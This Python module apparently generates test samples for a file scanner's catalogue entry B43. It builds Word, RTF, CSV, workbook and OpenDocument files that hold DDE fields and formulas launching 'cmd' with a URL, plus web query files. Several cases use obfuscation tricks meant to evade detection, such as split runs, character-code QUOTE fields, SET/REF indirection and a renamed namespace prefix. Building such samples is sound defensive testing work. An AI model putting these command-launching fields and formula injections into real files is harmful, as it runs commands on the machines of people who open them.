"""Fields, formulas and links that start programs, and queries (catalogue B43)."""

from __future__ import annotations

from office_maker import URL, Cases, flat, old_word, package, rtf, word
from ole_maker import compound


def _field(*runs: str) -> str:
    return "".join(f"<w:r>{run}</w:r>" for run in runs)


def dde() -> Cases:
    """The cases."""
    cases = Cases()
    begin, separate, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))

    def code(text: str) -> str:
        return f"<w:instrText>{text}</w:instrText>"

    quoted = " ".join(str(ord(letter)) for letter in "DDEAUTO")
    fields = {
        "split over runs": _field(begin, code("DD"), code("EA"), code(f"UTO cmd {URL}"), separate, end),
        "simple": f'<w:fldSimple w:instr=" DDEAUTO cmd {URL}"/>',
        "quoted numbers": _field(begin, begin, code(f"QUOTE {quoted}"), end, code(f" cmd {URL}"), end),
        "set and referred to": _field(
            begin, code('SET x "DDEAUTO cmd"'), end, begin, begin, code("REF x"), end, code(f" {URL}"), end
        ),
        "other prefix": _field(begin, code(f"DDE cmd {URL}"), end).replace("w:", "z9:"),
    }
    for title, source_text in fields.items():
        cases.put(f"B43 DDE {title}", "a.docx", word(document=source_text), "office-dde")
    cases.put("B43 DDE in old Word", "a.doc", compound(old_word(f"\x13DDEAUTO cmd {URL}\x14x\x15")), "office-dde")
    cases.put(
        "B43 DDE in RTF",
        "a.rtf",
        rtf(rf"{{\field{{\*\fldinst D{{\b DE}}AU\'54O cmd {URL}}}{{\fldrslt x}}}}"),
        "office-dde",
    )
    for number, formula in enumerate(
        (
            f"=cmd|'/c {URL}'!A0",
            f"@SUM(1+1)*cmd|'/c {URL}'!A0",
            f"\"=2+cmd|'/c {URL}'!A0\"",
            f"-cmd|'/c {URL}'!x",
            f'=DDE("cmd";"/c {URL}";"x")',
        )
    ):
        cases.put(f"B43 DDE in CSV {number}", "a.csv", f"a,b\n{formula},2\n", "office-dde")
    link = f'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c {URL}"/></externalLink>'
    cases.put(
        "B43 DDE in a workbook",
        "a.xlsx",
        package({"xl/workbook.xml": "<workbook/>", "xl/externalLinks/e1.xml": link}),
        "office-dde",
    )
    opened = flat(f'<office:dde-source office:dde-application="cmd" office:dde-topic="/c {URL}"/>')
    cases.put("B43 DDE in a flat OpenDocument file", "a.fods", opened, "office-dde")
    cases.put("B43 page query", "a.iqy", f"WEB\n1\n{URL}\n", "office-query")
    connection = f'<connections><connection id="1"><webPr url="{URL}"/></connection></connections>'
    cases.put(
        "B43 connection",
        "a.xlsx",
        package({"xl/workbook.xml": "<workbook/>", "xl/connections.xml": connection}),
        "office-query",
    )
    return cases
